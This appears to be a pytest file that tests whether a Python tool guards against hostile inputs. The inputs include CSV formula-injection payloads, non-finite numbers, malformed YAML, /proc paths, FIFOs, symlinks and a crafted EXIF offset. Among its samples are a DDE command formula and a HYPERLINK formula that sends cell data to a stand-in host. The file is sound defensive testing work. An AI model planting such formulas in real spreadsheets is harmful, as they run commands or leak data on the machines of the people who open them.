"""Hostile values (issue #14): CSV cells that would run as formulas, non-finite numbers,
YAML values PyYAML cannot build, and ``--resume`` hashing what a jobs table names.

All in-process: no kernel starts.
"""

from __future__ import annotations

import csv
import io
import math
import os
from pathlib import Path

import pandas as pd
import pytest

from workbench.errors import InputError

TESTS = Path(__file__).resolve().parents[1]
ATTACK = "=cmd|' /C calc'!A0"


# ----------------------------------------------------------------------------- CSV
def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_batch_summary_never_holds_a_formula(tmp_path):
    from workbench.batch.engines import FAILED, JobResult
    from workbench.batch.run import BatchResult, write_summary

    result = BatchResult(tmp_path, [JobResult("a", FAILED, error=ATTACK)])
    rows = _cells(write_summary(result).read_text(encoding="utf-8"))
    assert rows[1][3] == "'" + ATTACK


def test_collect_csv_never_holds_a_formula_and_numbers_stay_numbers(tmp_path):
    from bakohumas_factory import GOOD, HEADER

    from workbench.bakohumas.collect import write_reports
    from workbench.bakohumas.reader import read_reports

    source = tmp_path / "kiriman.csv"
    source.write_text(HEADER + "\n" + GOOD + "\n", encoding="utf-8")
    table = read_reports(source)
    table.loc[0, "kendala"] = '=HYPERLINK("http://x/?"&A1)'
    table.loc[0, "uraian_kegiatan"] = "@SUM(1+1)"
    out = write_reports(table, tmp_path / "gabungan.csv")
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert frame.loc[0, "kendala"] == "'" + '=HYPERLINK("http://x/?"&A1)'
    assert frame.loc[0, "uraian_kegiatan"] == "'@SUM(1+1)"
    assert frame.loc[0, "anggaran"] == table.loc[0, "anggaran"].astype(int).astype(str)
    back = read_reports(out)  # the workbench reads its own guard back off: no data changed
    assert back.loc[0, "kendala"] == '=HYPERLINK("http://x/?"&A1)'
    assert back.loc[0, "uraian_kegiatan"] == "@SUM(1+1)"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (ATTACK, "'" + ATTACK),
        ("+1+cmd", "'+1+cmd"),
        ("-1+cmd", "'-1+cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("-5", "-5"),  # a number is no formula
        ("+6281234", "+6281234"),
        ("-", "-"),
        ("biasa", "biasa"),
    ],
)
def test_one_csv_writer_guards_text_cells(value, written):
    from workbench.csv_write import csv_text, frame_csv

    assert _cells(csv_text([[value, 3]], ["a", "b"]))[1] == [written, "3"]
    assert _cells(frame_csv(pd.DataFrame({"a": [value], "b": [3]})))[1] == [written, "3"]


def test_no_module_writes_csv_around_the_guard():
    """Every csv.writer / DictWriter / to_csv of the package is in workbench/csv_write.py."""
    package = TESTS.parent / "workbench"
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if path.name != "csv_write.py"
        and "samples" not in path.parts
        and any(
            needle in path.read_text(encoding="utf-8")
            for needle in ("csv.writer(", "csv.DictWriter(", ".to_csv(")
        )
    ]
    assert offenders == []


# ----------------------------------------------------------------------------- numbers
@pytest.mark.parametrize("value", [".nan", ".inf", "-.inf"])
def test_a_non_finite_weight_is_refused(tmp_path, value):
    from workbench.bakohumas.weights import load_weights

    path = tmp_path / "bobot.yaml"
    path.write_text(f"indikator:\n  siaran_pers: {value}\n  sarana_memadai: 1\n")
    with pytest.raises(InputError, match="terhingga") as info:
        load_weights(path)
    assert info.value.exit_code == 2


def test_a_non_finite_penalty_is_refused_in_indonesian():
    from workbench.bakohumas.weights import resolve_weights

    with pytest.raises(InputError, match="terhingga"):
        resolve_weights({"indikator": {"siaran_pers": 1}, "penalti": {"terlambat": math.nan}})


def test_min_share_nan_is_refused():
    from workbench.paths import SAMPLE_MEETING_DIR
    from workbench.rakor.job import load_inputs

    with pytest.raises(InputError, match="--min-share.*terhingga"):
        load_inputs(
            SAMPLE_MEETING_DIR / "meeting.yaml",
            [SAMPLE_MEETING_DIR / "zoom-peserta.csv"],
            min_share=math.nan,
        )


def test_a_timeout_of_nan_is_refused_before_anything_runs(tmp_path):
    from workbench.batch.jobs import Job
    from workbench.batch.run import run_batch

    with pytest.raises(InputError, match="--timeout"):
        run_batch(
            TESTS / "fixtures" / "batch" / "values.ipynb",
            [Job("a", {}, 1)],
            tmp_path / "out",
            timeout=math.nan,
        )
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("cell", ["nan", "inf", "-inf", "1e999"])
def test_a_jobs_table_float_must_be_finite(tmp_path, cell):
    from workbench.batch.jobs import read_jobs
    from workbench.batch.notebook import load_notebook

    table = tmp_path / "jobs.csv"
    table.write_text(f"job,rasio\na,{cell}\n", encoding="utf-8")
    template = load_notebook(TESTS / "fixtures" / "batch" / "types.ipynb")
    with pytest.raises(InputError, match="terhingga") as info:
        read_jobs(table, template.parameters)
    assert info.value.exit_code == 2 and "baris 2" in str(info.value)


# ----------------------------------------------------------------------------- YAML
def test_an_impossible_date_in_a_jobs_table_is_bad_input(tmp_path):
    from workbench.batch.jobs import read_jobs
    from workbench.batch.notebook import load_notebook

    table = tmp_path / "jobs.yaml"
    table.write_text("- job: a\n  tanggal: 2025-07-17\n- job: b\n  tanggal: 2025-13-45\n")
    template = load_notebook(TESTS / "fixtures" / "batch" / "types.ipynb")
    with pytest.raises(InputError) as info:
        read_jobs(table, template.parameters)
    assert info.value.row == 4 and "2025-13-45" in str(info.value)


def test_a_5000_digit_int_in_weights_is_bad_input(tmp_path):
    from workbench.bakohumas.weights import load_weights

    path = tmp_path / "bobot.yaml"
    path.write_text("indikator:\n  siaran_pers: " + "9" * 5000 + "\n")
    with pytest.raises(InputError, match="terlalu panjang") as info:
        load_weights(path)
    assert info.value.row == 2


# ----------------------------------------------------------------------------- --resume
def _job(tmp_path, value: str):
    from workbench.batch.jobs import Job
    from workbench.batch.notebook import load_notebook

    template = load_notebook(TESTS / "fixtures" / "batch" / "types.ipynb")
    job = Job("a", {"masukan": value}, 1, out_dir=tmp_path / "out" / "a")
    return template, job


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs Linux /proc")
@pytest.mark.parametrize("name", ["/proc/self/status", "/proc/self/pagemap"])
def test_resume_never_reads_system_files_a_job_names(tmp_path, name):
    from workbench.batch.resume import UNHASHED, is_current, job_key, record

    template, job = _job(tmp_path, name)
    assert job_key(template, job)["inputs"] == {name: UNHASHED}
    job.folder.mkdir(parents=True)
    record(template, job)
    assert not is_current(template, job)  # a job naming such a file always reruns


def test_resume_hashes_no_fifo_and_no_file_over_the_bound(tmp_path, monkeypatch):
    from workbench import limits
    from workbench.batch.resume import UNHASHED, job_key

    monkeypatch.chdir(tmp_path)  # inside the allowed folders
    big = tmp_path / "besar.bin"
    with open(big, "wb") as f:  # sparse: nothing is written, nothing must be read
        f.truncate(limits.MAX_RESUME_FILE_BYTES + 1)
    template, job = _job(tmp_path, str(big))
    assert job_key(template, job)["inputs"] == {str(big): UNHASHED}
    fifo = tmp_path / "pipa"
    os.mkfifo(fifo)
    template, job = _job(tmp_path, str(fifo))
    assert job_key(template, job)["inputs"] == {str(fifo): UNHASHED}


def test_resume_does_not_follow_a_link_left_among_the_outputs(tmp_path, monkeypatch):
    from workbench.batch.resume import is_current, record

    monkeypatch.chdir(tmp_path)
    secret = tmp_path / "rahasia.txt"
    secret.write_text("x")
    template, job = _job(tmp_path, "")
    job.folder.mkdir(parents=True)
    (job.folder / "hasil.json").write_text("{}")
    (job.folder / "tautan.txt").symlink_to(secret)
    record(template, job)
    state = (job.folder / ".batch-state.json").read_text()
    assert "hasil.json" in state and "tautan" not in state
    assert is_current(template, job)
    (job.folder / "baru.txt").write_text("added later")
    assert not is_current(template, job)  # an output that was not there: rerun


# ----------------------------------------------------------------------------- photos
def _jpeg(path: Path, exif_pointer: bytes | None = None) -> Path:
    """A small JPEG; with ``exif_pointer``, an EXIF block whose Exif-IFD pointer (tag 0x8769)
    is that SLONG value (a negative offset makes Pillow seek before the block)."""
    import struct

    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (64, 48), (120, 110, 100)).save(buf, "JPEG")
    data = buf.getvalue()
    if exif_pointer is not None:
        ifd = struct.pack("<H", 1) + struct.pack("<HHI", 0x8769, 9, 1) + exif_pointer
        app1 = b"Exif\x00\x00" + b"II*\x00" + struct.pack("<I", 8) + ifd + struct.pack("<I", 0)
        data = data[:2] + b"\xff\xe1" + struct.pack(">H", len(app1) + 2) + app1 + data[2:]
    path.write_bytes(data)
    return path


def test_a_negative_exif_offset_is_a_bad_photo_not_a_traceback(tmp_path):
    import struct

    from workbench.standar.foto.reader import problem, read_photo

    photo = _jpeg(tmp_path / "IMG_0001.jpg", struct.pack("<i", -100))
    assert "EXIF" in (problem(photo) or "")  # the CLI's validation sees what the kernel will
    with pytest.raises(InputError, match="EXIF") as info:
        read_photo(photo)
    assert info.value.exit_code == 2


def test_a_file_time_in_the_year_318000_is_a_bad_photo(tmp_path, monkeypatch):
    from workbench.standar.foto.reader import problem, read_photo

    photo = _jpeg(tmp_path / "IMG_0002.jpg")  # no EXIF: the file time is the photo's time
    real_stat = Path.stat

    def far_future(self, **kw):
        st = real_stat(self, **kw)
        if self.name != photo.name:
            return st
        fields = list(st)
        fields[8] = 1e13  # st_mtime: the year ~318,000 (ext4 itself clamps at 2446)
        return os.stat_result(fields)

    monkeypatch.setattr(Path, "stat", far_future)
    assert "waktu berkas" in (problem(photo) or "")
    with pytest.raises(InputError, match="waktu berkas") as info:
        read_photo(photo)
    assert info.value.exit_code == 2


def test_photo_check_csv_never_holds_a_formula(tmp_path):
    from workbench.standar.foto.job import check_photo_folder, photo_check_csv

    folder = tmp_path / "foto"
    folder.mkdir()
    _jpeg(folder / "=cmd|' calc'!A0.jpg")
    rows = _cells(photo_check_csv(check_photo_folder(folder)).decode("utf-8"))
    assert rows[1][0] == "'=cmd|' calc'!A0.jpg"


def test_each_run_has_its_own_photo_folder_and_nothing_process_wide(tmp_path):
    """Two runs (threads of one process) each pass their folder as an argument: neither
    changes os.environ, and the notes one kernel leaves are found only in its own folder."""
    from workbench.standar.foto.job import leave_notes, photo_cache, photo_notes

    before = dict(os.environ)
    with photo_cache() as first, photo_cache() as second:
        assert first != second
        assert dict(os.environ) == before
        leave_notes(["foto a.jpg tidak dimuat"], first)
        leave_notes(["foto b.jpg tetap dimuat"], second)
        assert photo_notes(first) == ["foto a.jpg tidak dimuat"]
        assert photo_notes(second) == ["foto b.jpg tetap dimuat"]
    assert dict(os.environ) == before


def test_the_minutes_notebook_gets_its_runs_photo_folder():
    from workbench.paths import SAMPLE_MEETING_DIR
    from workbench.rakor.run import notebook_parameters

    params = notebook_parameters(
        SAMPLE_MEETING_DIR / "meeting.yaml", [], 0.5, {}, foto_cache=Path("/tmp/run-a")
    )
    assert params["foto_cache"] == "/tmp/run-a"
